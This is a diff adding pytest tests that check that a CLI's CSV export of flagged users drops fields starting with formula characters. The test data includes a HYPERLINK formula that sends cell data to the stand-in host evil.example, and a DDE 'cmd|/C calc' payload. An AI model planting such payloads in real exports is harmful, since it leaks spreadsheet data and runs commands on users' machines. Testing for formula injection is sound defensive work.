@@ -2,7 +2,9 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 from collections.abc import Callable
+from pathlib import Path
 from typing import Any
 
 import pytest
@@ -203,6 +205,66 @@ def test_what_fails(cli: Any, monkeypatch: pytest.MonkeyPatch, settings: Any, me
     assert (done.code, done.out) == (2, "")
     assert message in done.err
     assert len(done.err.splitlines()) == 1
+
+
+FORMULAS = [
+    "=1+1",
+    '=HYPERLINK("https://evil.example/?"&A1,"x")',
+    "+4915112345",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1)",
+    "\t=1+1",
+    "  =1+1",
+    "\n=1",
+    "\uff1d1+1",
+    "\uff0b1",
+]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+@pytest.mark.parametrize("field", ["id", "name", "email", "billingId"])
+def test_what_a_spreadsheet_would_carry_out(
+    open_cli: Callable[..., Any], field: str, formula: str
+) -> None:
+    """The user is left out and named, and no other; --exact has everything as Kana has it."""
+    user = {"id": "u1", "name": "N", "email": "n@example.com", field: formula}
+    others = [{"id": "x", "name": "1+1=2", "email": "n@example.com"}, {"id": "a-b@c"}]
+    cli = open_cli({"users": [user, *others]})
+    done = cli("flags", "--csv")
+    rows = list(csv.DictReader(io.StringIO(done.out, newline="")))
+    flagged = [one["id"] for box in cli("flags", "--json").json.values() for one in box["users"]]
+    assert {row["id"] for row in rows} == {*flagged} - {user["id"]}
+    cells = [cell for row in rows for cell in row.values()]
+    assert not [cell for cell in cells if cell.strip()[:1] in set("=+-@\uff1d\uff0b")]
+    assert done.code == 1
+    assert "Left out: 1 user with a field that begins with = + - or @" in done.err
+    assert repr(user["id"]) in done.err
+    exact = cli("flags", "--csv", "--exact")
+    assert (exact.code, exact.err) == (0, "")
+    found = list(csv.DictReader(io.StringIO(exact.out, newline="")))
+    assert formula in {row[field] for row in found}
+    assert {row["id"] for row in found} == {*flagged}
+
+
+def test_exact_is_for_csv(cli: Any) -> None:
+    """Nothing else leaves anybody out."""
+    done = cli("flags", "--exact")
+    assert done.code == 2
+    assert "--exact is for --csv" in done.err
+
+
+def test_all_csv_is_written_in_one_place() -> None:
+    """So that no other is without this."""
+    root = Path(__file__).parents[3]
+    users = [
+        path.relative_to(root).as_posix()
+        for package in ("destinations", "kana_destination")
+        for path in (root / package).rglob("*.py")
+        if re.search(
+            r"^\s*(import csv|from csv )|text/csv", path.read_text(encoding="utf-8"), re.MULTILINE
+        )
+    ]
+    assert users == ["destinations/cli/csv_text.py"]
 
 
 def test_csv_and_json_exclude_each_other(cli: Any) -> None:
